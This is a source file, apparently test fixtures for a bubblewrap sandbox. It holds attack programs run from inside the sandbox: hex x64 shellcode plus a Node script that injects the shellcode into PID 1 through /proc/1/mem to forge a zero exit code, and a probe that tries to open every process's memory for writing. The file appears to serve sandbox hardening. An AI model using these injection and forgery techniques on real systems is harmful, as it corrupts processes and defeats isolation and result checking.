/** Programs that attack the sandbox from inside, as files of a commit. */

/**
 * Machine code for x64: writes 1 to the event descriptor of the sandbox's init process, which means "exit code 0" to
 * bubblewrap, and exits. The number of the descriptor is in bytes 1 to 4.
 */
const FORGERY = 'bf00000000488d3515000000ba08000000b8010000000f0531ffb8e70000000f050100000000000000';

/** Makes the init process report exit code 0: its next instructions become FORGERY. */
export const FORGE_EXIT_CODE = `
const fs = require('node:fs');
const next = Number(fs.readFileSync('/proc/1/syscall', 'latin1').trim().split(' ').at(-1));
const isEvent = (fd) => fs.readlinkSync('/proc/1/fd/' + fd).includes('eventfd');
const code = Buffer.from('${FORGERY}', 'hex');
code.writeUInt32LE(Number(fs.readdirSync('/proc/1/fd').find(isEvent)), 1);
fs.writeSync(fs.openSync('/proc/1/mem', 'r+'), code, 0, code.length, next);
console.log('forged');
`;

/** Tries to open the memory of every process of the sandbox for writing. Prints a line for each that can be opened. */
export const OPEN_MEMORY = `
const fs = require('node:fs');
for (const pid of fs.readdirSync('/proc').filter((name) => /^\\d+$|^self$|^thread-self$/.test(name))) {
  try {
    fs.openSync('/proc/' + pid + '/mem', 'r+');
    console.log('opened', pid);
  } catch (error) {
    console.log('refused', error.code);
  }
}
`;
